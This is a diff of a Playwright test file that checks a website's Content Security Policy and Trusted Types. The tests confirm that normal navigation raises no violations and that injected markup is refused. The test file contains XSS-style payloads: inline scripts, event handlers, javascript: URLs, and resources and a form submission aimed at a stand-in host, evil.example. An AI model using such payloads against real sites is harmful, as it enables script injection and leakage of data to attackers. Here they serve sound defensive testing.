@@ -1,175 +1,71 @@
-import { expect, type Page, test } from '@playwright/test';
-import { EnquiryFormPage, enquiryForms } from './enquiry-form';
+import { expect, test } from '@playwright/test';
+import { detailsId, routes } from '@/lib/routes';
+import { card, kinds } from './kinds';
 import { ready } from './ready';
-import { fixedRoutes, itemDialogs, itemRoutes, phoneSize, postRoutes } from './site';
+import { watchViolations } from './violations';
 
-/** One page of each kind: the fixed ones, a service, a post, and an item of each list. */
-const kinds = [
-  ...fixedRoutes.slice(0, 12),
-  ...postRoutes.slice(0, 1),
-  ...new Map(itemRoutes.map((route) => [route.split('/')[1], route])).values(),
-];
-
-/** Notes whatever the policy refuses, the console complains of, and requests to other hosts. */
-async function watch(page: Page): Promise<string[]> {
-  const found: string[] = [];
-  await page.exposeFunction('noteViolation', (text: string) => found.push(text));
-  await page.addInitScript(() => {
-    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
-      const note = `${effectiveDirective} refused ${blockedURI} ${sample}`;
-      (window as unknown as { noteViolation(text: string): void }).noteViolation(note);
-    });
-  });
-  page.on('console', (message) => {
-    if (['error', 'warning'].includes(message.type())) found.push(message.text());
-  });
-  page.on('pageerror', (error) => found.push(String(error)));
-  page.on('request', (request) => {
-    const { hostname, protocol } = new URL(request.url());
-    if (protocol.startsWith('http') && hostname !== 'localhost') found.push(request.url());
-  });
-  return found;
-}
-
-/** Goes to a page as a link of the site does, without a new document. */
-async function goSoftly(page: Page, route: string) {
-  await page.evaluate((href) => {
-    const { next } = window as unknown as { next: { router: { push(href: string): void } } };
-    next.router.push(href);
-  }, route);
-  await expect(page).toHaveURL(route);
-  await expect(page.locator('h1')).toHaveCount(1);
-}
-
-for (const [index, from] of kinds.entries()) {
-  test(`the policy lets people go softly from ${from} to every other kind of page`, async ({
-    page,
-  }) => {
-    const found = await watch(page);
-    await page.goto(from);
-    await ready(page);
-    await page.evaluate(() => Object.assign(window, { sameDocument: true }));
-    // There and back again: each pair of kinds in both directions.
-    for (const to of kinds.slice(index + 1)) {
-      await goSoftly(page, to);
-      await goSoftly(page, from);
-    }
-    expect(await page.evaluate(() => Reflect.get(window, 'sameDocument'))).toBe(true);
-    expect(found).toEqual([]);
-  });
-}
-
-test('the policy lets every kind of dialog open', async ({ page }) => {
-  const found = await watch(page);
-  for (const [route, item] of itemDialogs) {
-    await page.goto(route);
-    await ready(page);
-    await page.locator(`#${item?.slug} a[data-dialog]`).click();
-    await expect(page.locator(`#details-${item?.slug}`)).toBeVisible();
-  }
-  expect(found).toEqual([]);
-});
-
-test('the policy lets menus, carousels, counters and the price filter work', async ({ page }) => {
-  const found = await watch(page);
-  await page.goto('/');
+test('the policy refuses nothing while somebody uses the site, without a new document', async ({
+  page,
+}) => {
+  const found = await watchViolations(page);
+  await page.goto(kinds.home);
   await ready(page);
-  await page.getByRole('banner').getByText('Activities').click();
-  await page.keyboard.press('Escape');
+  await page.evaluate(() => Object.assign(window, { isSameDocument: true }));
+  await page.locator('header details[data-menu] summary').first().click();
   for (const carousel of await page.locator('[aria-roledescription="carousel"]').all()) {
     await carousel.scrollIntoViewIfNeeded();
     await expect(carousel).toHaveAttribute('data-state', /./);
-    // The first button is the one that stops it.
-    await carousel.getByRole('button').first().click();
-    await expect(carousel).toHaveAttribute('data-state', 'paused');
   }
-  await page.locator('dl').first().scrollIntoViewIfNeeded();
-
-  await page.goto('/packages');
-  await ready(page);
-  await page.getByRole('radio', { name: '25000-50000' }).check();
-  await expect(page).toHaveURL('/packages?price=25000-50000');
-
-  await page.setViewportSize(phoneSize);
-  await page.getByRole('button', { name: 'Open the menu' }).click();
-  await expect(page.locator('dialog.dialog-side')).toBeVisible();
+  // As a link of the site does.
+  const follow = async (route: string) => {
+    await page.evaluate((href) => {
+      const { next } = window as unknown as { next: { router: { push(href: string): void } } };
+      next.router.push(href);
+    }, route);
+    await expect(page).toHaveURL(route);
+    await expect(page.locator('h1')).toHaveCount(1);
+  };
+  for (const route of Object.values(kinds)) await follow(route);
+  await follow(routes.packages);
+  await page.locator(`#${card.slug} a[data-dialog]`).click();
+  await expect(page.locator(`#${detailsId(card)}`)).toBeVisible();
+  expect(await page.evaluate(() => Reflect.get(window, 'isSameDocument'))).toBe(true);
   expect(found).toEqual([]);
 });
 
-for (const { name } of enquiryForms) {
-  test(`the policy lets the ${name} form refuse, fail, offer other ways and send`, async ({
-    page,
-  }) => {
-    const found = await watch(page);
-    const form = await new EnquiryFormPage(page, name).open();
-    await form.button.click();
-    await expect(form.alert).toHaveText(form.texts.missing);
-    await form.fill();
-    await form.answerOk();
-    await form.button.click();
-    await form.expectSent();
-    expect(found).toEqual([]);
-  });
-}
+/** What an attacker would get into a page, and what the policy says of it. */
+const injections = {
+  '<script>window.intruded = true</script>': 'script-src-elem inline',
+  '<img src="/icon.svg" onload="window.intruded = true">': 'script-src-attr inline',
+  '<script src="https://evil.example/x.js"></script>': 'script-src-elem https://evil.example/x.js',
+  '<iframe src="javascript:top.intruded = true"></iframe>': 'script-src-elem inline',
+  '<style>body { color: red }</style>': 'style-src-elem inline',
+  '<p style="color: red">x</p>': 'style-src-attr inline',
+  '<img src="https://evil.example/x.gif?told">': 'img-src https://evil.example/x.gif?told',
+  '<base href="https://evil.example/">': 'base-uri https://evil.example/',
+  '<object data="https://evil.example/x"></object>': 'object-src https://evil.example',
+};
 
-/** What an attacker would get into a page, and what must come of it. */
-const injections = [
-  ['an inline script', '<script>window.intruded = true</script>', 'script-src-elem'],
-  [
-    'an inline handler',
-    '<img src="/nowhere.svg" onerror="window.intruded = true">',
-    'script-src-attr',
-  ],
-  [
-    'a script of another host',
-    '<script src="https://evil.example/x.js"></script>',
-    'script-src-elem',
-  ],
-  [
-    'a script in an address',
-    '<iframe src="javascript:top.intruded = true"></iframe>',
-    'script-src-elem',
-  ],
-  ['an inline style', '<style>body { color: red }</style>', 'style-src-elem'],
-  ['a style attribute', '<p style="color: red">x</p>', 'style-src-attr'],
-  ['a picture that tells', '<img src="https://evil.example/x.gif?told">', 'img-src'],
-  ['another base', '<base href="https://evil.example/">', 'base-uri'],
-  ['an object', '<object data="https://evil.example/x"></object>', 'object-src'],
-] as const;
-
-for (const [what, markup, directive] of injections) {
-  test(`the policy refuses ${what}`, async ({ page }) => {
-    const found = await watch(page);
-    await page.route('**/contact', async (route) => {
+for (const [markup, violation] of Object.entries(injections)) {
+  test(`the policy refuses ${markup}`, async ({ page }) => {
+    const found = await watchViolations(page);
+    await page.route(`**${routes.privacy}`, async (route) => {
       const response = await route.fetch();
-      const html = (await response.text()).replace('<main', `${markup}<main`);
-      await route.fulfill({ response, body: html });
+      const body = (await response.text()).replace('<main', `${markup}<main`);
+      await route.fulfill({ response, body });
     });
-    await page.goto('/contact');
-    await ready(page);
-    await expect.poll(() => found.join('\n')).toContain(`${directive} refused`);
+    await page.goto(routes.privacy);
+    await expect.poll(() => found.join('\n')).toContain(violation);
     expect(await page.evaluate(() => Reflect.get(window, 'intruded'))).toBeUndefined();
-    const style = await page.locator('body').evaluate((body) => getComputedStyle(body).color);
-    expect(style).not.toBe('rgb(255, 0, 0)');
+    await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(255, 0, 0)');
   });
 }
 
-test('a form that would send to another host is refused', async ({ page }) => {
-  const found = await watch(page);
-  await page.goto('/contact');
-  await page.evaluate(() => {
-    const form = document.createElement('form');
-    form.action = 'https://evil.example/';
-    document.body.append(form);
-    form.submit();
-  });
-  await expect.poll(() => found.join('\n')).toContain('form-action refused');
-});
-
-test('Trusted Types let own scripts in, and neither markup nor other addresses', async ({
+test('Trusted Types let scripts of the build in, and neither markup nor other addresses', async ({
   page,
 }) => {
-  await page.goto('/contact');
+  const found = await watchViolations(page);
+  await page.goto(routes.privacy);
   await ready(page);
   const outcomes = await page.evaluate(() => {
     const attempt = (act: () => void) => {
@@ -180,16 +76,16 @@ test('Trusted Types let own scripts in, and neither markup nor other addresses',
         return error instanceof TypeError ? 'refused' : String(error);
       }
     };
-    const script = () => document.createElement('script');
-    const own = document.querySelector('script[src]')?.getAttribute('src') ?? '';
+    const script = (values: object) =>
+      attempt(() => Object.assign(document.createElement('script'), values));
     return {
-      own: attempt(() => Object.assign(script(), { src: own })),
-      markup: attempt(() => Object.assign(document.createElement('p'), { innerHTML: '<b>x</b>' })),
-      text: attempt(() => Object.assign(script(), { text: 'window.intruded = true' })),
-      elsewhere: attempt(() => Object.assign(script(), { src: 'https://evil.example/x.js' })),
-      data: attempt(() => Object.assign(script(), { src: 'data:text/javascript,alert()' })),
+      own: script({ src: document.querySelector('script[src]')?.getAttribute('src') }),
+      markup: attempt(() => Object.assign(document.body, { innerHTML: '<b>x</b>' })),
+      text: script({ text: 'window.intruded = true' }),
+      elsewhere: script({ src: 'https://evil.example/x.js' }),
+      data: script({ src: 'data:text/javascript,alert()' }),
       // Own host, but no script of the build: what visitors could have put there.
-      upload: attempt(() => Object.assign(script(), { src: '/images/x.js' })),
+      upload: script({ src: '/images/x.js' }),
     };
   });
   expect(outcomes).toEqual({
@@ -200,4 +96,12 @@ test('Trusted Types let own scripts in, and neither markup nor other addresses',
     data: 'refused',
     upload: 'refused',
   });
+
+  await page.evaluate(() => {
+    const form = document.createElement('form');
+    form.action = 'https://evil.example/';
+    document.body.append(form);
+    form.submit();
+  });
+  await expect.poll(() => found.join('\n')).toContain('form-action https://evil.example');
 });
